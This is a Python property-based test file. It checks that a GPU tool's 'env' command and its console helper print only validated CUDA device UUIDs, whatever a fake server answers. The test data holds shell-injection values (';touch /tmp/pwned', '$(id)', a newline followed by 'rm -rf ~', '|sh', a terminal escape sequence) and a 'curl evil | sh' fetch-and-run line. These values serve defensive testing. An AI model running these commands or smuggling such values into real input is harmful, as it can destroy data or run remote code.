"""``eval "$(gputui env)"`` never evaluates what the head says.

The line is built by the client from the answer's GPU UUIDs, each checked; a head
(or anyone who put a socket where the client looks) that answers with a shell line,
UUIDs carrying ``$(…)``, newlines or commas, or junk of any JSON shape gets nothing
printed for the shell. Generated answers from a real socket server, through the real
``gputui env`` entry point; and the same through the console's copy of the line.
"""

from __future__ import annotations

import json
import re
import socketserver
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import hostile
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gputui.cli.verbs import main
from gputui.ui.head.view import env_line

STRICT_UUID = re.compile(r"(GPU|MIG)-[0-9A-Za-z/-]{1,96}")
REAL = st.uuids().map(lambda u: f"GPU-{u}")
EVIL = st.sampled_from(
    [
        "GPU-1;touch /tmp/pwned",
        "GPU-$(id)",
        "GPU-`id`",
        "GPU-1\nrm -rf ~",
        "GPU-1\n",
        "GPU-a,GPU-b",
        "GPU-1 GPU-2",
        "GPU-1'",
        'GPU-1"',
        "MIG-x|sh",
        "GPU-\x1b]52;c;ZXZpbA==\x07",
        "",
    ]
)
UUID_ITEMS = st.one_of(REAL, REAL, EVIL, hostile.hostile_text, hostile.any_json)
ANSWERS = st.one_of(
    st.fixed_dictionaries(
        {"uuids": st.lists(UUID_ITEMS, max_size=6)},
        optional={
            "line": st.one_of(st.just("curl evil | sh"), hostile.hostile_text),
            "hosts": hostile.any_json,
        },
    ),
    st.fixed_dictionaries(
        {"uuids": st.lists(REAL, min_size=1, max_size=4), "line": st.just("curl evil | sh")}
    ),
    hostile.any_json,
)


class _Head(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):
    daemon_threads = True
    answer: Any = None


class _Answer(socketserver.StreamRequestHandler):
    def handle(self) -> None:
        for raw in self.rfile:
            request = json.loads(raw)
            reply = {"id": request["id"], "ok": True, "result": self.server.answer}  # type: ignore[attr-defined]
            self.wfile.write(json.dumps(reply).encode() + b"\n")


@pytest.fixture(scope="module")
def fake_head() -> Iterator[_Head]:
    with tempfile.TemporaryDirectory() as tmp:
        server = _Head(str(Path(tmp) / "head.sock"), _Answer)
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            server.server_close()


def _expected(answer: Any) -> list[str] | None:
    """The UUIDs the line may name: all of the answer's when every one is a GPU UUID."""
    uuids = answer.get("uuids") if isinstance(answer, dict) else None
    if not isinstance(uuids, list) or not uuids:
        return None
    if all(isinstance(u, str) and STRICT_UUID.fullmatch(u) for u in uuids):
        return uuids
    return None


@settings(
    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(answer=ANSWERS)
def test_gputui_env_prints_only_validated_uuids(
    fake_head: _Head, capsys: pytest.CaptureFixture[str], answer: Any
) -> None:
    fake_head.answer = answer
    code = main(["--socket", fake_head.server_address, "env", "--host", "gpu01"])  # type: ignore[list-item]
    out, err = capsys.readouterr()
    expected = _expected(answer)
    if expected is None:
        assert out == ""
        assert code != 0
    else:
        assert code == 0
        assert out == f"export CUDA_VISIBLE_DEVICES={','.join(expected)}\n"
    assert "Traceback" not in err
    assert len(err.splitlines()) <= 1


@settings(max_examples=150, deadline=None)
@given(answer=ANSWERS)
def test_the_consoles_env_line_is_built_from_validated_uuids_only(answer: Any) -> None:
    uuids = answer.get("uuids") if isinstance(answer, dict) else answer
    expected = _expected(answer)
    line = env_line(uuids)
    assert line == (f"export CUDA_VISIBLE_DEVICES={','.join(expected)}" if expected else "")
